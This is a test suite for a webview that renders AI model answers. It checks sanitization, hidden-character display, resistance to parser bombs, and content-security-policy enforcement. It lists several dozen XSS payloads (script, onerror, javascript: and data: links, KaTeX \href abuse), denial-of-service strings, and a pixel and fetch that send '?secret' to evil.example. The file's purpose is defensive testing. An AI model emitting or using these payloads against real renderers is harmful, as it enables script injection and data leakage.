import { describe, expect, test } from 'vitest';
import { eventually, usePanel } from './harness.ts';
import { answer, asked, began, closed, ended, opened, reasoning, session, turn } from './samples.ts';

const { open, bundle } = usePanel();

const attacks = [
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'<svg onload=alert(1)><use href="https://evil.example/x.svg#a"/></svg>',
	'<iframe src="https://evil.example"></iframe>',
	'<a href="javascript:alert(1)">x</a>',
	'<style>@import "https://evil.example/x.css";</style>',
	'<math><mtext><img src=x onerror=alert(1)></mtext></math>',
	'[click](javascript:alert(1))',
	'[click](JaVaScRiPt:alert(1))',
	'[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
	'[click](vbscript:msgbox(1))',
	'[click](command:workbench.action.terminal.new)',
	'[click](  java\nscript:alert(1))',
	'[a]: javascript:alert(1)\n\n[a]',
	'![x](https://evil.example/pixel.png?secret)',
	'![x](javascript:alert(1))',
	'[![x](https://evil.example/pixel.png)](https://evil.example)',
	'<https://evil.example/"onmouseover=alert(1)>',
	'`<img src=x onerror=alert(1)>`',
	'```html\n<script>alert(1)</script>\n```',
	'```"><img src=x onerror=alert(1)>\ncode\n```',
	'| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
	'- [x] <img src=x onerror=alert(1)>',
	'$\\href{javascript:alert(1)}{x}$',
	'$\\url{https://evil.example}$',
	'$\\htmlData{onclick=alert(1)}{x}$',
	'$\\htmlId{root}{x} \\htmlClass{card}{x} \\htmlStyle{background:url(https://evil.example)}{x}$',
	'$\\includegraphics[height=1em]{https://evil.example/x.png}$',
	'$\\text{<img src=x onerror=alert(1)>}$',
	'$\\def\\a{\\a\\a}\\a$',
	'$\\rule{100000em}{100000em}$',
	`$${'{'.repeat(900)}x${'}'.repeat(900)}$`,
	'&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
	'<img src="x" onerror="alert(1)" <script>',
	'a\u202Etxt.exe\u202C b\u200Bc',
];

test('nothing that a model writes runs, loads or asks for anything', async () => {
	const panel = await open();
	const { page } = panel;
	const hostile = attacks.join('\n\n');
	await panel.tell(
		opened({ session: session([turn({ id: 'old', question: hostile, reasoning: hostile, answer: hostile })]) }),
		asked(hostile),
		began('native'),
		...attacks.map((attack) => reasoning(`${attack}\n\n`)),
		closed,
		...attacks.map((attack) => answer(`${attack}\n\n`)),
		ended,
	);
	await page.getByText('The answer is complete.').waitFor({ state: 'attached' });
	for (const head of await page.locator('.reasoning-head').all()) await head.click();
	await eventually(() => page.locator('.reasoning-body:not([hidden])').count()).toBe(2);
	await eventually(() => page.locator('#root').locator('script, iframe, img, a, object, embed, link, style, form').count()).toBe(0);
	await eventually(() => page.locator('[onclick], [onerror], [onload], [href], [src]').count()).toBe(2); // our own style and script
	// Every link is a button; a click on it only tells the host.
	for (const link of await page.locator('.answer .link').all()) await link.click();
	const hrefs = panel.intents().flatMap((intent) => (intent.kind === 'openLink' ? [intent.href] : []));
	expect(hrefs.filter((href) => /^\s*(?:javascript|data|vbscript):/iu.test(href))).toEqual([]);
	await page.waitForTimeout(200);
	expect(panel.offences).toEqual([]);
});

test('characters that hide are shown, in the text and in what is copied', async () => {
	const panel = await open();
	await panel.tell(opened({ session: session([turn({ question: 'a\u202Eb', answer: '```js\nlet a\u200B = 1;\n```' })]) }));
	await panel.page.getByText('a⟨U+202E⟩b').last().waitFor();
	await panel.page.getByRole('button', { name: 'Copy code' }).click();
	await eventually(panel.intents).toContainEqual({ kind: 'copy', text: 'let a⟨U+200B⟩ = 1;' });
});

test('formulas beyond KaTeX are shown as they were written', async () => {
	const panel = await open();
	await panel.tell(opened({ session: session([turn({ answer: 'Broken: $\\frac{1}{$ and fine: $x$' })]) }));
	await panel.page.locator('.formula.broken', { hasText: '$\\frac{1}{$' }).waitFor();
	await eventually(() => panel.page.locator('.answer .katex').count()).toBe(1);
});

describe('what is made to hang does not', () => {
	const bombs: Readonly<Record<string, string>> = {
		'20,000 nested quotes': `${'>'.repeat(20_000)} x`,
		'20,000 nested lists': `${'- '.repeat(20_000)}x`,
		'50,000 brackets': '['.repeat(50_000),
		'20,000 links that never end': '[a]('.repeat(20_000),
		'a table of 5,000 columns': `${'|a'.repeat(5000)}|\n${'|-'.repeat(5000)}|\n${'|b'.repeat(5000)}|`,
		'a fence that is not closed': `\`\`\`js\n${'const a = "x"; // text\n'.repeat(4000)}`,
		'50,000 dollars': '$a '.repeat(50_000),
		'30,000 emphasis marks': '*a **b '.repeat(15_000),
		'1,000 formulas': '$x^2$ '.repeat(1000),
	};

	test.each(Object.entries(bombs))('%s', async (_, bomb) => {
		const panel = await open();
		await panel.tell(opened(), asked(), began('none'), answer(bomb), ended, asked('And now?', 't2'));
		// The page answers to the user afterwards.
		await panel.page.getByText('And now?').waitFor({ timeout: 15_000 });
		await panel.page.getByRole('button', { name: 'Stop' }).click({ timeout: 15_000 });
		await eventually(panel.intents).toContainEqual({ kind: 'withdraw', turnId: 't2' });
	});
});

describe('the policy of the page', () => {
	test('lets no script run but ours, even where it stands in the page itself', async () => {
		const inline = `<script>document.title = 'owned'</script><svg onload="document.title = 'owned'"></svg>`;
		const panel = await open({ inline });
		await eventually(() => panel.offences.filter((offence) => offence.startsWith('policy: script-src')).length).toBe(2);
		await eventually(() => panel.page.title()).toBe('Lemma');
		panel.forgive();
	});

	test('lets no text become markup or script', async () => {
		const panel = await open();
		const attempt = (code: string): Promise<unknown> =>
			panel.page.evaluate(`(() => { try { ${code}; return 'done' } catch (error) { return error.name } })()`);
		await eventually(() => attempt(`document.body.innerHTML = '<img src=x onerror=alert(1)>'`)).toBe('TypeError');
		await eventually(() => attempt(`document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`)).toBe('TypeError');
		await eventually(() => attempt(`document.createElement('script').textContent = 'alert(1)'`)).toBe('TypeError');
		await eventually(() => panel.offences.length).toBe(3);
		panel.forgive();
	});

	test('lets nothing be fetched', async () => {
		const panel = await open();
		const outcome = await panel.page.evaluate(`fetch('https://evil.example/?secret').then(() => 'answered', () => 'refused')`);
		expect(outcome).toBe('refused');
		await eventually(() => panel.offences).toContainEqual('policy: connect-src https://evil.example/?secret');
		expect(panel.offences.filter((offence) => offence.startsWith('request'))).toEqual([]);
		panel.forgive();
	});
});

test('the script is smaller than 700 KB', () => {
	const size = bundle().get('/webview.js')?.length ?? 0;
	expect(size).toBeGreaterThan(100_000);
	expect(size).toBeLessThan(700_000);
});
